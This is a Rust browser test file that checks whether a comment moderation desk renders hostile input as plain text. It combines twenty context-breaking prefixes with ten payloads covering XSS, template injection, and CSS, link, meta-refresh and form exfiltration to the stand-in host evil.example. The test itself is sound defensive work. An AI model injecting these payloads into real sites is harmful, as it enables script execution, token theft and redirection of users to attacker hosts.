//! What strangers write is text: nothing runs, nothing is asked for elsewhere,
//! nothing even has to be forbidden.

use serde_json::json;

use crate::harness::{Page, Service, Setup, in_a_browser};

/// What may end the place that a text stands in.
const BREAKS: [&str; 20] = [
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "`",
    "--></style>",
    "</textarea>",
    "</title></head>",
    "</script>",
    "]]>",
    "</mark></div></article>",
    "</q></p>",
    "{{7*7}}{%raw%}",
    "${7*7}",
    "\u{202E}\u{2066}",
    "\u{0}\u{B}",
    "&quot;&gt;",
    "\\u0022\\x3e",
    "%22%3E",
];
/// What would do something there.
const PAYLOADS: [&str; 10] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)' autofocus onfocus=alert(1) tabindex=1>x</a>",
    "<style>@import '//evil.example/a';*{background:url(//evil.example/b)}</style>",
    "<link rel=stylesheet href=//evil.example/c><link rel=prefetch href=//evil.example/d>",
    "<meta http-equiv=refresh content='0;url=//evil.example/e'><base href=//evil.example/>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) style=background:url(//evil.example/f) x=",
    "<form action=//evil.example/g><button name=do value=accept>ok</button><input name=token>",
];

fn corpus() -> Vec<String> {
    let pairs = BREAKS
        .iter()
        .flat_map(|end| PAYLOADS.map(|payload| format!("{end}{payload}")));
    pairs.collect()
}

#[test]
fn two_hundred_injections_come_out_as_text() {
    in_a_browser(Setup::Desk, async |page| {
        let service = Service::start_that_holds();
        service.add_moderator("jo", "moderator");
        service.run(&["sites", "set", "blog", "--audit-share", "1", "--json"]);
        let corpus = corpus();
        assert_eq!(corpus.len(), 200);
        let mut ids = Vec::new();
        for (place, text) in corpus.iter().enumerate() {
            // Twice, so that there is an edit; each answers the one before.
            for before in ["", "earlier "] {
                let comment = json!({
                    "id": place.to_string(), "parent_id": place.saturating_sub(1).to_string(),
                    "kind": text, "content": format!("{before}{text} and more words to be read"),
                    "author": {
                        "name": text, "email": text, "url": format!("http://{place}.example/{before}{text}"),
                        "user_agent": text, "user_id": text, "role": text,
                    },
                    "post": { "url": text, "title": text, "language": text, "tags": [text] },
                    "referrer": text, "form": { "honeypot": text },
                });
                let answer = service.check(&comment).await;
                ids.push(answer["comment_id"].as_str().unwrap().to_owned());
            }
        }
        page.sign_in(&service, "jo").await;
        let mut cards = 0;
        for view in ["held", "accepted", "rejected"] {
            page.desk(&service, &format!("?view={view}")).await;
            loop {
                is_text(page, &service).await;
                let here = page.ask("document.querySelectorAll('.card').length").await;
                cards += here.as_u64().unwrap();
                if !page.shows("#next-page").await {
                    break;
                }
                page.follow("#next-page").await;
            }
        }
        assert_eq!(cards, 200);
        for id in ids.iter().step_by(20) {
            page.desk(&service, &format!("/comments/{id}")).await;
            is_text(page, &service).await;
            assert_eq!(
                page.ask("document.querySelectorAll('del, ins').length > 0")
                    .await,
                true
            );
        }
        page.desk(&service, &format!("/comments/{}/alike", ids[0]))
            .await;
        is_text(page, &service).await;
        page.desk(&service, "/audit").await;
        is_text(page, &service).await;
        // Many at once: the preview shows them, too.
        page.desk(&service, "").await;
        page.tap("#many .all").await;
        page.follow("#many button[value=reject]").await;
        assert!(page.text("h1").await.starts_with("Reject "));
        is_text(page, &service).await;
    });
}

/// Nothing that the strings would make is there, and nothing of it was tried.
async fn is_text(page: &Page, service: &Service) {
    assert!(!page.has_dialog().await);
    let made = page
        .ask(
            "[...document.querySelectorAll('main :is(script, img, svg, iframe, style, link, meta, base, animate), \
             [onerror], [onfocus], [onmouseover], [onbegin], [style], [srcdoc], form:not([action^=\"/desk/\"]):not([method=dialog]):not(#undo), \
             a[href]:not([href^=\"/desk\"]):not([href^=\"#\"])')].map((one) => one.outerHTML)",
        )
        .await;
    assert_eq!(made, json!([]));
    assert_eq!(page.console().await, Vec::<String>::new());
    let elsewhere: Vec<String> = page
        .requests()
        .await
        .into_iter()
        .filter(|asked| !asked.starts_with(&service.address))
        .filter(|asked| !asked.starts_with("data:") && !asked.starts_with("chrome"))
        .collect();
    assert_eq!(elsewhere, Vec::<String>::new());
}
